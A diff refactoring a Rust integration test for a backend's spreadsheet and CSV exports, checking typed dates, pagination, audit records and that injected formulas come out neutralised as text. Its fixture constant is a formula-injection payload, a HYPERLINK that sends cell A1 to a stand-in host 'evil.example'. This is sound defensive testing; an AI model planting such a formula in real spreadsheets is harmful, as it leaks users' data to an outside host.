@@ -15,6 +15,16 @@ use crate::support::{Backend, TestApp, backend_test};
 
 const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Нажмите\")";
 
+/// Whether a cell shows [`FORMULA`] as text, never a formula to run: prefixed with `'`.
+fn neutralised(cell: &Data) -> bool {
+    text(cell) == format!("'{FORMULA}")
+}
+
+/// Whether a CSV line starts with [`FORMULA`] as text: quoted and prefixed with `'`.
+fn neutralised_in_csv(line: &str) -> bool {
+    line.starts_with("\"'=HYPERLINK(")
+}
+
 async fn download(app: &TestApp, token: &str, file: &str) -> (String, Vec<u8>) {
     let res = app.http.get(app.url(&format!("/api/export/{file}"))).bearer_auth(token).send().await.unwrap();
     assert_eq!(res.status(), 200, "{file}");
@@ -32,6 +42,31 @@ fn sheet(bytes: Vec<u8>) -> (String, Vec<Vec<Data>>) {
 
 fn text(cell: &Data) -> String {
     cell.as_string().unwrap_or_default()
+}
+
+/// A CSV export's lines (without the one byte order mark it must start with).
+fn csv_lines(bytes: Vec<u8>) -> Vec<String> {
+    let text = String::from_utf8(bytes).unwrap();
+    assert_eq!(text.matches('\u{feff}').count(), 1, "one byte order mark");
+    assert!(text.starts_with('\u{feff}'), "the byte order mark comes first");
+    text.trim_start_matches('\u{feff}').split("\r\n").filter(|l| !l.is_empty()).map(str::to_string).collect()
+}
+
+/// What the audit log recorded of the exports (the `changes` of each record), oldest first.
+async fn audited_exports(app: &TestApp, token: &str) -> Vec<Value> {
+    let records = ok(app, token, Method::GET, "/api/audit?entity=export&per_page=100", None).await;
+    let items = records["items"].as_array().unwrap_or_else(|| panic!("a page: {records}"));
+    items.iter().rev().map(|r| r["changes"].clone()).collect()
+}
+
+/// Inserts `rows` 500 at a time (a statement's bind parameters are limited).
+async fn insert_all<A>(app: &TestApp, rows: Vec<A>)
+where
+    A: ActiveModelTrait + Send,
+{
+    for chunk in rows.chunks(500) {
+        <A::Entity as EntityTrait>::insert_many(chunk.to_vec()).exec_without_returning(app.db()).await.unwrap();
+    }
 }
 
 backend_test!(exports_read_back_with_typed_dates_and_neutralised_formulas);
@@ -60,15 +95,13 @@ async fn exports_read_back_with_typed_dates_and_neutralised_formulas(backend: Ba
     assert_eq!(plain[5].as_date(), NaiveDate::from_ymd_opt(2027, 3, 1));
     assert!(matches!(plain[7], Data::Float(_) | Data::Int(_)), "days left is a number: {:?}", plain[7]);
     let neutral = by_inn("7736207543");
-    assert_eq!(text(&neutral[0]), format!("'{FORMULA}"), "shown as text, never run");
+    assert!(neutralised(&neutral[0]), "shown as text, never run: {:?}", neutral[0]);
     assert_eq!(neutral[5].as_date(), NaiveDate::from_ymd_opt(2027, 4, 15));
 
-    let (_, csv) = download(&app, &admin, "deadlines.csv").await;
-    let csv = String::from_utf8(csv).unwrap();
-    let lines: Vec<&str> = csv.trim_start_matches('\u{feff}').split("\r\n").filter(|l| !l.is_empty()).collect();
+    let lines = csv_lines(download(&app, &admin, "deadlines.csv").await.1);
     assert_eq!(lines.len(), rows.len(), "the CSV holds the same rows");
     let evil_line = lines.iter().find(|l| l.contains("7736207543")).unwrap();
-    assert!(evil_line.starts_with("\"'=HYPERLINK("), "neutralised in the CSV too: {evil_line}");
+    assert!(neutralised_in_csv(evil_line), "neutralised in the CSV too: {evil_line}");
     assert!(evil_line.contains(";15.04.2027;"), "{evil_line}");
 
     // Clients with their cash registers: a row per register.
@@ -76,9 +109,9 @@ async fn exports_read_back_with_typed_dates_and_neutralised_formulas(backend: Ba
     assert_eq!((name.as_str(), rows.len()), ("Клиенты", 3));
     let serials: Vec<String> = rows[1..].iter().map(|r| text(&r[8])).collect();
     assert!(serials.contains(&"SN-7707083893".to_string()) && serials.contains(&"SN-7736207543".to_string()));
-    assert!(rows.iter().any(|r| text(&r[0]) == format!("'{FORMULA}")));
-    let (_, clients_csv) = download(&app, &admin, "clients.csv").await;
-    assert!(String::from_utf8(clients_csv).unwrap().contains("\"'=HYPERLINK("));
+    assert!(rows.iter().any(|r| neutralised(&r[0])), "the formula shown as text in the clients' sheet");
+    let clients_csv = csv_lines(download(&app, &admin, "clients.csv").await.1);
+    assert!(clients_csv.iter().any(|l| neutralised_in_csv(l)), "and in their CSV");
 
     // Requests and the reminder log: a header (and no rows yet).
     for (file, sheet_name) in [("requests.xlsx", "Заявки"), ("reminders.xlsx", "Напоминания")] {
@@ -91,15 +124,10 @@ async fn exports_read_back_with_typed_dates_and_neutralised_formulas(backend: Ba
     assert_eq!((status, code(&body)), (StatusCode::UNPROCESSABLE_ENTITY, "validation_failed"));
     let (status, _) = call(&app, &admin, Method::GET, "/api/export/deadlines.pdf", None).await;
     assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
-    let records = ok(&app, &admin, Method::GET, "/api/audit?entity=export&per_page=100", None).await;
-    let done: Vec<String> = records["items"]
-        .as_array()
-        .unwrap()
+    let done: Vec<String> = audited_exports(&app, &admin)
+        .await
         .iter()
-        .rev()
-        .map(|r: &Value| {
-            format!("{}.{}", r["changes"]["dataset"].as_str().unwrap(), r["changes"]["format"].as_str().unwrap())
-        })
+        .map(|c| format!("{}.{}", c["dataset"].as_str().unwrap(), c["format"].as_str().unwrap()))
         .collect();
     assert_eq!(
         done,
@@ -130,9 +158,7 @@ async fn csv_exports_go_out_page_by_page_with_every_row_once(backend: Backend) {
             ..Default::default()
         })
         .collect();
-    for chunk in rows.chunks(500) {
-        client::Entity::insert_many(chunk.to_vec()).exec_without_returning(app.db()).await.unwrap();
-    }
+    insert_all(&app, rows).await;
     let with_registers: Vec<i32> = (1..=clients).filter(|i| i % 3 == 0).collect();
     let registers: Vec<cash_register::ActiveModel> = with_registers
         .iter()
@@ -148,9 +174,7 @@ async fn csv_exports_go_out_page_by_page_with_every_row_once(backend: Backend) {
             ..Default::default()
         })
         .collect();
-    for chunk in registers.chunks(500) {
-        cash_register::Entity::insert_many(chunk.to_vec()).exec_without_returning(app.db()).await.unwrap();
-    }
+    insert_all(&app, registers).await;
     // More deadlines than two pages, ten to a date.
     let fn_type = crate::support::seed::deadline_type_id(app.db(), "fn").await;
     let deadlines = 2 * PAGE as i64 + 345;
@@ -167,16 +191,9 @@ async fn csv_exports_go_out_page_by_page_with_every_row_once(backend: Backend) {
             ..Default::default()
         })
         .collect();
-    for chunk in rows.chunks(500) {
-        deadline::Entity::insert_many(chunk.to_vec()).exec_without_returning(app.db()).await.unwrap();
-    }
+    insert_all(&app, rows).await;
 
-    let lines = |bytes: Vec<u8>| -> Vec<String> {
-        let text = String::from_utf8(bytes).unwrap();
-        assert_eq!(text.matches('\u{feff}').count(), 1, "one byte order mark");
-        text.trim_start_matches('\u{feff}').split("\r\n").filter(|l| !l.is_empty()).map(str::to_string).collect()
-    };
-    let clients_csv = lines(download(&app, &admin, "clients.csv").await.1);
+    let clients_csv = csv_lines(download(&app, &admin, "clients.csv").await.1);
     assert_eq!(clients_csv.iter().filter(|l| l.starts_with("Клиент;ИНН;")).count(), 1, "one header");
     let expected: Vec<String> = (1..=clients)
         .flat_map(|c| {
@@ -193,19 +210,16 @@ async fn csv_exports_go_out_page_by_page_with_every_row_once(backend: Backend) {
         .collect();
     assert_eq!(got, expected, "every client once, by name then id, each with its registers");
 
-    let deadlines_csv = lines(download(&app, &admin, "deadlines.csv").await.1);
+    let deadlines_csv = csv_lines(download(&app, &admin, "deadlines.csv").await.1);
     assert_eq!(deadlines_csv.len() as i64, deadlines + 1, "a header and every deadline");
     let notes: Vec<String> = deadlines_csv[1..].iter().map(|l| l.rsplit(';').next().unwrap().to_string()).collect();
     let expected: Vec<String> = (0..deadlines).map(|k| format!("n{k}")).collect();
     assert_eq!(notes, expected, "by date, then id: every deadline once");
 
-    let records = ok(&app, &admin, Method::GET, "/api/audit?entity=export&per_page=10", None).await;
-    let counted: Vec<(String, i64)> = records["items"]
-        .as_array()
-        .unwrap()
+    let counted: Vec<(String, i64)> = audited_exports(&app, &admin)
+        .await
         .iter()
-        .rev()
-        .map(|r| (r["changes"]["dataset"].as_str().unwrap().to_string(), r["changes"]["rows"].as_i64().unwrap()))
+        .map(|c| (c["dataset"].as_str().unwrap().to_string(), c["rows"].as_i64().unwrap()))
         .collect();
     let client_rows = i64::from(clients) + with_registers.len() as i64;
     assert_eq!(counted, [("clients".to_string(), client_rows), ("deadlines".to_string(), deadlines)]);
